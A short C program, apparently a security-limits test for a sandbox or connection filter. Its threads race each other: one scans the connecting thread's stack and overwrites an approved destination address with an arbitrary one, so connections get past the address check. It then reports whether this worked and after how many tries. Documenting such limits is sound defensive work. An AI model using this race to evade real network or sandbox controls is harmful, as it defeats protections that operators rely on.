/* overwriting ADDRESS: another thread writes ADDRESS over a judged one, on the stack of the thread that connects
 * (docs/security/limits.md). Prints whether that succeeded, and after how many tries. */
#include "midst.h"
#include <arpa/inet.h>
#include <pthread.h>

enum { PATIENCE = 40, BELOW = 4096, SELF = 64, WRITTEN = 8 /* family, port, address */ };
static volatile int stop;
static char *volatile frame;
static struct sockaddr_in judged, another;
static volatile int got, tries;

static void *overwrite_stack(void *unused)
{
    (void)unused;
    while (!frame)
        ;
    while (!stop)
        for (char *p = frame - BELOW; p < frame - SELF; p += 4)
            if (!memcmp(p, &judged, WRITTEN))
                memcpy(p, &another, WRITTEN);
    return NULL;
}

static void *connect_often(void *unused)
{
    static struct sockaddr_in to;
    (void)unused;
    to = judged;
    frame = __builtin_frame_address(0);
    for (double end = now() + PATIENCE; now() < end && !got; tries++) {
        struct sockaddr_in peer = {0};
        socklen_t length = sizeof peer;
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (!connect(s, (struct sockaddr *)&to, sizeof to) &&
            !getpeername(s, (struct sockaddr *)&peer, &length))
            got += peer.sin_addr.s_addr == another.sin_addr.s_addr && write(s, "mark", 4) == 4;
        close(s);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    pthread_t threads[2];
    judged = (struct sockaddr_in){
        .sin_family = AF_INET, .sin_port = htons(9999), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    another = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80)};
    if (argc != 2 || !inet_aton(argv[1], &another.sin_addr))
        return 2;
    pthread_create(&threads[0], NULL, overwrite_stack, NULL);
    pthread_create(&threads[1], NULL, connect_often, NULL);
    pthread_join(threads[1], NULL);
    stop = 1;
    pthread_join(threads[0], NULL);
    return print(got, tries);
}
